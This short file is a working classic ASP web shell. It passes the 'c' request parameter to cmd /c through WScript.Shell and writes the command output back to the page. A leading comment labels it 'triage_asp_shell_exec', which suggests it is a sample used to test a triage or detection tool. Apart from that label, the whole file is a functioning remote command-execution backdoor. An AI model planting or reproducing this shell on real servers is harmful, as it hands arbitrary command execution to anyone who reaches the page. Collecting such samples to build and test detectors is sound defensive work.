<%' triage-expect: triage_asp_shell_exec %>
<%
Set sh = CreateObject("WScript.Shell")
Set ex = sh.Exec("cmd /c " & Request("c"))
Response.Write ex.StdOut.ReadAll()
%>
